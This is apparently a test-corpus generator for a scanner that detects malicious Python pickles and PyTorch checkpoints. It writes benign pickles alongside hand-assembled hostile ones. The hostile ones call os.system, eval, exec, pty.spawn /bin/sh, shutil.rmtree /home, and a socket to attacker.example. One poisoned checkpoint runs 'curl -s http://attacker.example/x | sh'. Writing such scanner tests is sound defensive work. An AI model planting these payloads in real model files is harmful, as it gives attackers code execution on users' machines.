#!/usr/bin/env python3
"""Writes the scanner's test corpus, core/src/test/resources/scan/, with CPython.

Run it with CPython 3.11 and numpy:  python3 core/src/test/python/make_scan_corpus.py [--out DIR]

  hostile/   one file per trick a pickle can hide code execution behind, assembled by hand
             opcode by opcode (no pickler writes them): os.system by GLOBAL, STACK_GLOBAL operands
             from old string opcodes and the memo, dotted names, INST and OBJ, a dangerous second
             pickle, a global only a BUILD state holds, Python 2 names, EXT codes, persistent ids,
             PyTorch zips under three extensions, a legacy PyTorch file, zips in zips...
  benign/    real pickles from CPython's pickle.dumps: numpy arrays, datetimes, Decimals,
             collections, plain values, UUIDs, and PyTorch-style checkpoints written the way
             torch.save writes them (CPython's Pickler at protocol 2 with persistent ids for the
             storages; torch itself is not needed).
  expected.tsv   what the scanner must find, established by CPython's own unpickling machine.

expected.tsv has one line per fact, tab-separated:  kind  file  entry  pickle  offset  opcode  global  verdict

  kind      import: the pickle imports `global` at byte `offset` with `opcode` (GLOBAL,
            STACK_GLOBAL, INST or EXT*); call: the opcode (REDUCE, NEWOBJ, NEWOBJ_EX, INST, OBJ,
            BUILD) calls `global`, written `name(...)` for the result of calling name, and for
            BUILD the object whose __setstate__ gets the state; complete: CPython read the file or
            member to its end without an error, and `pickle` is how many pickles it holds: the
            scanner must then report exactly the imports and calls listed, no more.
  entry     the zip member (inner!member for a zip in a zip), or - for a plain file.
  offset    from the start of the file or member, as pickletools.genops counts.
  verdict   the verdict the scanner must give (dangerous, unknown, safe), or - when only the
            finding itself is checked.

How the facts are established: each pickle is loaded by pickle._Unpickler (pure Python) with
find_class replaced so that it never imports anything: it records the name, renamed from Python 2
below protocol 3 exactly as pickle.py's find_class renames it, and returns an inert class that
records every call made on it or on what it returns (__new__, __call__, __setstate__).
Unregistered EXT codes load as such inert classes too, and persistent ids as inert objects. The
k-th recorded import is the k-th GLOBAL/STACK_GLOBAL/INST/EXT opcode that genops lists, and the
k-th recorded call the k-th REDUCE/NEWOBJ/NEWOBJ_EX/INST/OBJ/BUILD opcode; a pickle that makes
CPython fail stops the record there.

The output is the same, byte for byte, on every run (PYTHONHASHSEED=0, fixed zip timestamps).
"""

import os
import sys

if os.environ.get('PYTHONHASHSEED') != '0':
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__)] + sys.argv[1:],
              dict(os.environ, PYTHONHASHSEED='0'))

sys.dont_write_bytecode = True

import _compat_pickle
import argparse
import collections
import datetime
import decimal
import fractions
import io
import pickle
import pickletools
import shutil
import struct
import types
import uuid
import zipfile

import numpy

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.normpath(os.path.join(HERE, '..', 'resources', 'scan'))

# ---- a tiny assembler: asm(('PROTO', 2), ('GLOBAL', ('os', 'system')), 'REDUCE', ...) ----

OPCODES = {op.name: op for op in pickletools.opcodes}


def encode_arg(kind, arg):
    if kind == 'uint1':
        return bytes([arg])
    if kind == 'uint2':
        return struct.pack('<H', arg)
    if kind == 'int4':
        return struct.pack('<i', arg)
    if kind == 'uint4':
        return struct.pack('<I', arg)
    if kind == 'uint8':
        return struct.pack('<Q', arg)
    if kind == 'stringnl':
        return ("'" + arg + "'\n").encode('ascii')
    if kind == 'stringnl_noescape':
        return (arg + '\n').encode('ascii')
    if kind == 'stringnl_noescape_pair':
        return (arg[0] + '\n' + arg[1] + '\n').encode('utf-8')
    if kind == 'string1':
        data = arg.encode('latin1')
        return bytes([len(data)]) + data
    if kind == 'string4':
        data = arg.encode('latin1')
        return struct.pack('<i', len(data)) + data
    if kind == 'bytes1':
        return bytes([len(arg)]) + arg
    if kind == 'bytes4':
        return struct.pack('<I', len(arg)) + arg
    if kind == 'unicodestring1':
        data = arg.encode('utf-8')
        return bytes([len(data)]) + data
    if kind == 'unicodestring4':
        data = arg.encode('utf-8')
        return struct.pack('<I', len(data)) + data
    if kind == 'unicodestringnl':
        return arg.encode('raw-unicode-escape') + b'\n'
    if kind == 'decimalnl_short':
        return (str(arg) + '\n').encode('ascii')
    if kind == 'long1':
        data = pickle.encode_long(arg)
        return bytes([len(data)]) + data
    raise ValueError('no encoder for ' + kind)


def asm(*ops):
    out = bytearray()
    for item in ops:
        name, arg = (item, None) if isinstance(item, str) else item
        op = OPCODES[name]
        out += op.code.encode('latin1')
        if op.arg is not None:
            out += encode_arg(op.arg.name, arg)
    return bytes(out)


def framed(protocol, *ops):
    """PROTO, then one FRAME around the rest, as protocol 4 and 5 write it."""
    body = asm(*ops)
    return asm(('PROTO', protocol)) + b'\x95' + struct.pack('<Q', len(body)) + body


def G(module, name):
    return ('GLOBAL', (module, name))


def U(text):
    return ('SHORT_BINUNICODE', text)


def call1(module, name, arg, protocol=2):
    """module.name(arg) at the protocol given, the global by GLOBAL (2, 3) or STACK_GLOBAL (4)."""
    if protocol >= 4:
        return framed(protocol, U(module), 'MEMOIZE', U(name), 'MEMOIZE', 'STACK_GLOBAL', 'MEMOIZE',
                      U(arg), 'MEMOIZE', 'TUPLE1', 'MEMOIZE', 'REDUCE', 'MEMOIZE', 'STOP')
    return asm(('PROTO', protocol), G(module, name), ('BINPUT', 0), ('BINUNICODE', arg), ('BINPUT', 1),
               'TUPLE1', ('BINPUT', 2), 'REDUCE', ('BINPUT', 3), 'STOP')


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', compression=zipfile.ZIP_STORED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED
            info.create_system = 3
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


# ---- PyTorch's formats, written the way torch.save writes them ----

TORCH_MAGIC = 0x1950a86a20f9469cfc6c
TORCH_PROTOCOL_VERSION = 1001


def fake_torch_modules():
    """Just enough of torch for CPython's pickler to name its globals (nothing runs them)."""
    torch = types.ModuleType('torch')
    utils = types.ModuleType('torch._utils')

    def _rebuild_tensor_v2(storage, storage_offset, size, stride, requires_grad, backward_hooks):
        raise AssertionError('never called')

    _rebuild_tensor_v2.__module__ = 'torch._utils'
    _rebuild_tensor_v2.__qualname__ = '_rebuild_tensor_v2'
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    storage_class = type('FloatStorage', (), {'__module__': 'torch'})
    torch.FloatStorage = storage_class
    torch._utils = utils
    sys.modules['torch'] = torch
    sys.modules['torch._utils'] = utils
    return _rebuild_tensor_v2, storage_class


REBUILD_TENSOR_V2, FLOAT_STORAGE = fake_torch_modules()


class Storage:
    def __init__(self, key, numel):
        self.key = key
        self.numel = numel


class Tensor:
    def __init__(self, storage, size, stride):
        self.storage = storage
        self.size = size
        self.stride = stride

    def __reduce_ex__(self, protocol):
        return REBUILD_TENSOR_V2, (self.storage, 0, self.size, self.stride, False, collections.OrderedDict())


class TorchPickler(pickle.Pickler):
    """torch.save's pickler: storages become persistent ids; legacy files add view metadata."""

    def __init__(self, file, legacy):
        super().__init__(file, protocol=2)
        self.legacy = legacy

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            if self.legacy:
                return ('storage', FLOAT_STORAGE, obj.key, 'cpu', obj.numel, None)
            return ('storage', FLOAT_STORAGE, obj.key, 'cpu', obj.numel)
        return None


def torch_pickle(obj, legacy=False):
    buf = io.BytesIO()
    TorchPickler(buf, legacy).dump(obj)
    return buf.getvalue()


def state_dict():
    sd = collections.OrderedDict()
    sd['linear.weight'] = Tensor(Storage('0', 4), (2, 2), (2, 1))
    sd['linear.bias'] = Tensor(Storage('1', 2), (2,), (1,))
    sd._metadata = collections.OrderedDict([('', {'version': 1}), ('linear', {'version': 1})])
    return sd


# Raw float32 tensor bytes that happen to start like a pickle: never to be read as one.
STORAGE_0 = b'\x80\x02' + struct.pack('<f', 0.5) + struct.pack('<f', -1.0) + struct.pack('<f', 2.0) + b'\x00\x00'
STORAGE_1 = struct.pack('<2f', 0.25, 0.75)


def torch_zip(data_pkl):
    return zip_bytes([
        ('archive/data.pkl', data_pkl),
        ('archive/byteorder', b'little'),
        ('archive/data/0', STORAGE_0),
        ('archive/data/1', STORAGE_1),
        ('archive/version', b'3\n'),
        ('archive/.data/serialization_id', b'1234567890123456789012345678901234567890'),
    ])


def torch_legacy(obj_pickle):
    sys_info = {'protocol_version': TORCH_PROTOCOL_VERSION, 'little_endian': True,
                'type_sizes': {'short': 2, 'int': 4, 'long': 4}}
    raw = struct.pack('<q', 4) + STORAGE_0[:16] + struct.pack('<q', 2) + STORAGE_1
    return (pickle.dumps(TORCH_MAGIC, 2) + pickle.dumps(TORCH_PROTOCOL_VERSION, 2) + pickle.dumps(sys_info, 2)
            + obj_pickle + pickle.dumps(['0', '1'], 2) + raw)


# A state dict whose data.pkl also runs os.system, by hand: what a poisoned checkpoint looks like.
HOSTILE_DATA_PKL = asm(
    ('PROTO', 2), G('collections', 'OrderedDict'), ('BINPUT', 0), 'EMPTY_TUPLE', 'REDUCE', ('BINPUT', 1),
    'MARK',
    ('BINUNICODE', 'linear.weight'), ('BINPUT', 2),
    G('torch._utils', '_rebuild_tensor_v2'), ('BINPUT', 3),
    'MARK',
    'MARK', ('BINUNICODE', 'storage'), G('torch', 'FloatStorage'), ('BINUNICODE', '0'), ('BINUNICODE', 'cpu'),
    ('BININT1', 4), 'TUPLE', 'BINPERSID',
    ('BININT1', 0), ('BININT1', 2), ('BININT1', 2), 'TUPLE2', ('BININT1', 2), ('BININT1', 1), 'TUPLE2', 'NEWFALSE',
    ('BINGET', 0), 'EMPTY_TUPLE', 'REDUCE',
    'TUPLE', 'REDUCE',
    ('BINUNICODE', 'linear.bias'),
    G('os', 'system'), ('BINUNICODE', 'curl -s http://attacker.example/x | sh'), 'TUPLE1', 'REDUCE',
    'SETITEMS', 'STOP')

# ---- the hostile corpus: (file, content, {global: verdict}, pickles to read) ----

OS_SYSTEM_P2 = call1('os', 'system', 'id')


def hostile_cases():
    cases = []

    def add(name, data, targets, most=None):
        cases.append((name, data, targets, most))

    add('os_system_global.pkl',
        asm(G('os', 'system'), 'MARK', ('STRING', 'echo pwned'), 'TUPLE', 'REDUCE', 'STOP'),
        {'os.system': 'dangerous'})
    add('posix_system.pkl', call1('posix', 'system', 'id'), {'posix.system': 'dangerous'})
    add('nt_system.pkl',
        asm(G('nt', 'system'), 'MARK', ('SHORT_BINSTRING', 'dir'), 'TUPLE', 'REDUCE', 'STOP'),
        {'nt.system': 'dangerous'})
    add('subprocess_popen_stack_global.pkl',
        framed(4, U('subprocess'), 'MEMOIZE', U('Popen'), 'MEMOIZE', 'STACK_GLOBAL', 'MEMOIZE',
               'EMPTY_LIST', 'MEMOIZE', U('ls'), 'MEMOIZE', 'APPEND', 'TUPLE1', 'MEMOIZE', 'REDUCE', 'STOP'),
        {'subprocess.Popen': 'dangerous'})
    add('builtins_eval_binunicode.pkl',
        asm(('PROTO', 4), ('BINUNICODE', 'builtins'), ('BINUNICODE', 'eval'), 'STACK_GLOBAL',
            ('BINUNICODE', "__import__('os').system('id')"), 'TUPLE1', 'REDUCE', 'STOP'),
        {'builtins.eval': 'dangerous'})
    add('builtins_exec_binstring.pkl',
        asm(('PROTO', 4), ('BINSTRING', 'builtins'), ('SHORT_BINSTRING', 'exec'), 'STACK_GLOBAL',
            ('SHORT_BINSTRING', 'import os'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'builtins.exec': 'dangerous'})
    add('builtins_eval_string.pkl',
        asm(('PROTO', 4), ('STRING', 'builtins'), ('STRING', 'eval'), 'STACK_GLOBAL',
            ('STRING', '1+1'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'builtins.eval': 'dangerous'})
    add('builtins_getattr_unicode_memo.pkl',
        asm(('PROTO', 4), ('UNICODE', 'builtins'), ('PUT', 1), 'POP', ('UNICODE', 'getattr'), ('PUT', 2), 'POP',
            ('BININT1', 7), 'POP', ('GET', 1), ('GET', 2), 'STACK_GLOBAL',
            ('BININT1', 1), ('UNICODE', 'real'), 'TUPLE2', 'REDUCE', 'STOP'),
        {'import:builtins.getattr': 'safe', 'call:builtins.getattr': 'dangerous'})
    add('memo_indirection.pkl',
        asm(('PROTO', 2), G('os', 'system'), ('BINPUT', 7), 'POP', ('BINUNICODE', 'harmless'), 'POP',
            ('BINGET', 7), ('BINUNICODE', 'id'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'os.system': 'dangerous'})
    add('getattr_import_chain.pkl',
        asm(('PROTO', 2), G('builtins', 'getattr'), G('builtins', '__import__'), ('BINUNICODE', 'os'), 'TUPLE1',
            'REDUCE', ('BINUNICODE', 'system'), 'TUPLE2', 'REDUCE', ('BINUNICODE', 'id'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'import:builtins.getattr': 'safe', 'call:builtins.getattr': 'dangerous', 'builtins.__import__': 'dangerous',
         'builtins.getattr(...)': 'dangerous'})
    add('dotted_pathlib_os_system.pkl',
        framed(4, U('pathlib'), 'MEMOIZE', U('os.system'), 'MEMOIZE', 'STACK_GLOBAL', 'MEMOIZE',
               U('id'), 'MEMOIZE', 'TUPLE1', 'MEMOIZE', 'REDUCE', 'MEMOIZE', 'STOP'),
        {'pathlib.os.system': 'dangerous'})
    add('dotted_dunder_globals.pkl',
        framed(4, U('pathlib'), U('Path.home.__globals__'), 'STACK_GLOBAL', 'STOP'),
        {'pathlib.Path.home.__globals__': 'dangerous'})
    add('inst_os_system.pkl',
        asm('MARK', ('STRING', 'ls'), ('INST', ('os', 'system')), 'STOP'),
        {'os.system': 'dangerous'})
    add('obj_os_system.pkl',
        asm('MARK', G('os', 'system'), ('SHORT_BINSTRING', 'ls'), 'OBJ', 'STOP'),
        {'os.system': 'dangerous'})
    add('second_pickle_dangerous.pkl',
        pickle.dumps({'a': 1, 'b': [1, 2]}, 2) + call1('subprocess', 'getoutput', 'id'),
        {'subprocess.getoutput': 'dangerous'})
    add('build_state_global.pkl',
        asm(('PROTO', 2), G('builtins', 'object'), 'EMPTY_TUPLE', 'NEWOBJ', 'EMPTY_DICT',
            ('BINUNICODE', 'callback'), G('os', 'system'), 'SETITEM', 'BUILD', 'STOP'),
        {'os.system': 'dangerous'})
    add('builtin_eval_protocol0.pkl',
        asm(G('__builtin__', 'eval'), 'MARK', ('STRING', '1+1'), 'TUPLE', 'REDUCE', 'STOP'),
        {'builtins.eval': 'dangerous'})
    add('builtin_eval_protocol4.pkl',
        asm(('PROTO', 4), G('__builtin__', 'eval'), U('1+1'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'__builtin__.eval': 'dangerous'})
    add('functools_partial.pkl',
        asm(('PROTO', 2), G('functools', 'partial'), G('builtins', 'print'), ('BINUNICODE', 'x'), 'TUPLE2',
            'REDUCE', 'STOP'),
        {'functools.partial': 'dangerous'})
    add('operator_attrgetter.pkl', call1('operator', 'attrgetter', 'system'), {'operator.attrgetter': 'dangerous'})
    add('importlib_import_module.pkl', call1('importlib', 'import_module', 'os', 3),
        {'importlib.import_module': 'dangerous'})
    add('runpy_run_path.pkl', call1('runpy', 'run_path', '/tmp/evil.py', 4), {'runpy.run_path': 'dangerous'})
    add('pkgutil_resolve_name.pkl',
        asm(('PROTO', 3), G('pkgutil', 'resolve_name'), ('BINUNICODE', 'os:system'), 'TUPLE1', 'REDUCE',
            ('BINUNICODE', 'id'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'pkgutil.resolve_name': 'dangerous', 'pkgutil.resolve_name(...)': 'dangerous'})
    add('marshal_function.pkl',
        asm(('PROTO', 3), G('types', 'FunctionType'), G('marshal', 'loads'),
            ('SHORT_BINBYTES', b'\xe3\x00\x00\x00\x00\x00\x00\x00\x00'), 'TUPLE1', 'REDUCE', 'EMPTY_DICT', 'TUPLE2',
            'REDUCE', 'EMPTY_TUPLE', 'REDUCE', 'STOP'),
        {'types.FunctionType': 'dangerous', 'marshal.loads': 'dangerous', 'types.FunctionType(...)': 'dangerous'})
    add('webbrowser_open.pkl', call1('webbrowser', 'open', 'http://attacker.example/'),
        {'webbrowser.open': 'dangerous'})
    add('socket_create_connection.pkl',
        asm(('PROTO', 2), G('socket', 'create_connection'), ('BINUNICODE', 'attacker.example'), ('BININT2', 4444),
            'TUPLE2', 'TUPLE1', 'REDUCE', 'STOP'),
        {'socket.create_connection': 'dangerous'})
    add('shutil_rmtree.pkl', call1('shutil', 'rmtree', '/home'), {'shutil.rmtree': 'dangerous'})
    add('ctypes_cdll.pkl', call1('ctypes', 'CDLL', 'libc.so.6'), {'ctypes.CDLL': 'dangerous'})
    add('pty_spawn.pkl', call1('pty', 'spawn', '/bin/sh'), {'pty.spawn': 'dangerous'})
    add('asyncio_create_subprocess_shell.pkl', call1('asyncio.subprocess', 'create_subprocess_shell', 'id', 4),
        {'asyncio.subprocess.create_subprocess_shell': 'dangerous'})
    add('pickle_loads_nested.pkl',
        asm(('PROTO', 3), G('pickle', 'loads'), ('BINBYTES', OS_SYSTEM_P2), 'TUPLE1', 'REDUCE', 'STOP'),
        {'pickle.loads': 'dangerous'})
    add('builtins_open.pkl', call1('builtins', 'open', '/etc/passwd', 3), {'builtins.open': 'dangerous'})
    add('ext_code_then_eval.pkl',
        asm(('PROTO', 2), ('EXT2', 0x1234), 'EMPTY_TUPLE', 'REDUCE', 'POP',
            G('builtins', 'eval'), ('BINUNICODE', '1+1'), 'TUPLE1', 'REDUCE', 'STOP'),
        {'<extension:4660>': 'unknown', 'builtins.eval': 'dangerous'})
    add('persistent_id_then_system.pkl',
        asm(('PROTO', 2), ('BINUNICODE', 'storage-0'), 'BINPERSID', 'POP', G('os', 'system'), ('BINUNICODE', 'id'),
            'TUPLE1', 'REDUCE', 'STOP'),
        {'os.system': 'dangerous'})
    add('stop_leaves_items_then_system.pkl',
        asm(('PROTO', 2), ('BININT1', 1), 'MARK', ('BININT1', 2), 'STOP') + OS_SYSTEM_P2,
        {'os.system': 'dangerous'})
    for extension in ('pt', 'bin', 'txt'):
        add('torch_checkpoint.' + extension, torch_zip(HOSTILE_DATA_PKL), {'os.system': 'dangerous'})
    add('torch_legacy_later_pickle.pt',
        torch_legacy(asm(('PROTO', 2), G('subprocess', 'check_output'), ('BINUNICODE', 'id'), 'TUPLE1', 'REDUCE',
                         'STOP')),
        {'subprocess.check_output': 'dangerous'}, most=5)
    add('zip_in_zip.zip',
        zip_bytes([('README.txt', b'nothing to see\n'),
                   ('inner.zip', zip_bytes([('evil.pkl', call1('os', 'execv', '/bin/sh'))]))]),
        {'os.execv': 'dangerous'})
    add('bundle_sniffed_member.zip',
        zip_bytes([('README.txt', b'model files\n'), ('payload', call1('builtins', 'exec', 'import os', 4))]),
        {'builtins.exec': 'dangerous'})
    return cases


def benign_cases():
    cases = []

    def add(name, data, most=None):
        cases.append((name, data, None, most))

    arrays = {
        'f32': numpy.arange(6, dtype=numpy.float32).reshape(2, 3),
        'i64': numpy.array([1, -2, 3], dtype=numpy.int64),
        'bool': numpy.array([True, False]),
        'c128': numpy.array([1 + 2j], dtype=numpy.complex128),
        'u8': numpy.frombuffer(b'\x00\x7f\xff', dtype=numpy.uint8),
        'str': numpy.array(['ab', 'c']),
        'fortran': numpy.asfortranarray(numpy.ones((2, 2), dtype=numpy.float64)),
    }
    add('numpy_arrays_protocol2.pkl', pickle.dumps(arrays, 2))
    add('numpy_arrays_protocol5.pkl', pickle.dumps(arrays, 5))
    add('numpy_scalars.pkl', pickle.dumps([numpy.float64(1.5), numpy.int32(7), numpy.bool_(True)], 4))
    moments = [datetime.datetime(2026, 11, 25, 9, 30), datetime.datetime(2026, 11, 25, 9, 30, tzinfo=datetime.timezone.utc),
               datetime.date(2026, 1, 2), datetime.time(23, 59, 1, 500), datetime.timedelta(days=-1, seconds=5),
               datetime.timezone(datetime.timedelta(hours=-5), 'EST')]
    add('datetimes.pkl', b''.join(pickle.dumps(moments, p) for p in (0, 2, 4)))
    numbers = [decimal.Decimal('1.10'), decimal.Decimal('-Infinity'), decimal.Decimal('NaN'), fractions.Fraction(1, 3)]
    add('decimals.pkl', b''.join(pickle.dumps(numbers, p) for p in (0, 2, 5)))
    containers = [collections.OrderedDict([('a', 1), ('b', 2)]), collections.defaultdict(list, {'x': [1]}),
                  collections.deque([1, 2, 3], maxlen=5), collections.Counter('abracadabra')]
    add('collections.pkl', b''.join(pickle.dumps(containers, p) for p in (2, 4)))
    plain = {'name': 'Alice', 'age': 25, 'scores': [1.5, 2.0], 'tags': {'a', 'b'}, 'frozen': frozenset({1, 2}),
             'bytes': b'\x00\xff', 'bytearray': bytearray(b'xy'), 'complex': 1 + 2j, 'none': None,
             'tuple': (1, True), 'range': range(3), 'slice': slice(1, 2), 'nested': {'k': [{'deep': ()}]}}
    add('plain.pkl', b''.join(pickle.dumps(plain, p) for p in range(6)))
    add('uuids.pkl', b''.join(pickle.dumps([uuid.UUID('12345678-1234-5678-1234-567812345678')], p) for p in (0, 2, 4)))
    add('torch_state_dict.pt', torch_zip(torch_pickle(state_dict())))
    add('torch_legacy.pt', torch_legacy(torch_pickle(state_dict(), legacy=True)), most=5)
    add('bundle.zip', zip_bytes([('README.txt', b'(a model and its notes)\n'), ('model.pkl', pickle.dumps(plain, 4)),
                                 ('weights.bin', b'\x80\x02\x00\x01binary, not a pickle')]))
    return cases


# ---- the oracle: CPython's own unpickling machine, with nothing importable ----

class Inert:
    """What the oracle's inert globals return: records every call made on it."""

    def __init__(self, log, desc):
        self._log = log
        self._desc = desc

    def __call__(self, *args, **kwargs):
        self._log.append(('call', self._desc))
        return Inert(self._log, self._desc + '(...)')

    def __setstate__(self, state):
        self._log.append(('call', self._desc))

    def append(self, item):
        pass

    def extend(self, items):
        pass

    def add(self, item):
        pass

    def __setitem__(self, key, value):
        pass


def inert_class(log, desc):
    def new(cls, *args, **kwargs):
        log.append(('call', desc))
        return Inert(log, desc + '(...)')

    return type('InertClass', (), {'__new__': new})


class OracleUnpickler(pickle._Unpickler):
    def __init__(self, file, log):
        super().__init__(file, encoding='latin1')
        self.log = log

    def find_class(self, module, name):
        if self.proto < 3 and self.fix_imports:
            if (module, name) in _compat_pickle.NAME_MAPPING:
                module, name = _compat_pickle.NAME_MAPPING[(module, name)]
            elif module in _compat_pickle.IMPORT_MAPPING:
                module = _compat_pickle.IMPORT_MAPPING[module]
        desc = module + '.' + name
        self.log.append(('import', desc))
        return inert_class(self.log, desc)

    def persistent_load(self, pid):
        return Inert(self.log, '<persistent-id>')

    def get_extension(self, code):
        desc = '<extension:%d>' % code
        self.log.append(('import', desc))
        self.append(inert_class(self.log, desc))


IMPORT_OPS = {'GLOBAL', 'STACK_GLOBAL', 'INST', 'EXT1', 'EXT2', 'EXT4'}
CALL_OPS = {'REDUCE', 'NEWOBJ', 'NEWOBJ_EX', 'INST', 'OBJ', 'BUILD'}


def facts(data, most=None):
    """(rows of (kind, pickle, offset, opcode, global), complete pickle count or None)."""
    rows = []
    start = 0
    index = 0
    while start < len(data) and (most is None or index < most):
        ops = list(pickletools.genops(data[start:]))
        end = start + ops[-1][2] + 1
        log = []
        failed = False
        try:
            OracleUnpickler(io.BytesIO(data[start:end]), log).load()
        except Exception:
            failed = True
        imports = [(op.name, start + pos) for op, arg, pos in ops if op.name in IMPORT_OPS]
        calls = [(op.name, start + pos) for op, arg, pos in ops if op.name in CALL_OPS]
        for kind, desc in log:
            opname, offset = (imports if kind == 'import' else calls).pop(0)
            rows.append((kind, index, offset, opname, desc))
        index += 1
        if failed:
            return rows, None
        start = end
    return rows, index


def members_to_read(data):
    """The zip members a scan reads (pickles by suffix or content; not torch storages), with zips inside."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        roots = [n[:-len('data.pkl')] for n in names if n == 'data.pkl' or n.endswith('/data.pkl')]
        for name in names:
            if name.endswith('/') or any(name.startswith(r + 'data/') for r in roots):
                continue
            content = z.read(name)
            if content[:4] == b'PK\x03\x04':
                found += [(name + '!' + inner, c) for inner, c in members_to_read(content)]
            elif name.endswith('.pkl'):
                found.append((name, content))
            elif content[:1] == b'\x80' and content[1] <= 5 and parses(content):
                found.append((name, content))
    return found


def parses(content):
    """Whether content that starts like a pickle is one (the scanner skips what is not)."""
    try:
        for _ in pickletools.genops(content):
            pass
        return True
    except ValueError:
        return False


# ---- writing ----

def write_corpus(out):
    for sub in ('hostile', 'benign'):
        shutil.rmtree(os.path.join(out, sub), ignore_errors=True)
        os.makedirs(os.path.join(out, sub))
    lines = ['# Written by core/src/test/python/make_scan_corpus.py; see its docstring for the columns.',
             '# kind\tfile\tentry\tpickle\toffset\topcode\tglobal\tverdict']
    for sub, cases in (('hostile', hostile_cases()), ('benign', benign_cases())):
        for name, data, targets, most in cases:
            rel = sub + '/' + name
            with open(os.path.join(out, sub, name), 'wb') as f:
                f.write(data)
            units = members_to_read(data) if data[:4] == b'PK\x03\x04' else [('-', data)]
            for entry, content in units:
                rows, complete = facts(content, most)
                for kind, index, offset, opname, desc in rows:
                    if targets is None:
                        verdict = 'safe'
                    else:
                        verdict = targets.get(kind + ':' + desc, targets.get(desc, '-'))
                    lines.append('\t'.join([kind, rel, entry, str(index), str(offset), opname, desc, verdict]))
                if complete is not None:
                    lines.append('\t'.join(['complete', rel, entry, str(complete), '-', '-', '-', '-']))
    with open(os.path.join(out, 'expected.tsv'), 'w', encoding='utf-8', newline='\n') as f:
        f.write('\n'.join(lines) + '\n')


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    parser.add_argument('--out', default=DEFAULT_OUT, help='the directory to write (default: %(default)s)')
    args = parser.parse_args()
    write_corpus(args.out)


if __name__ == '__main__':
    main()
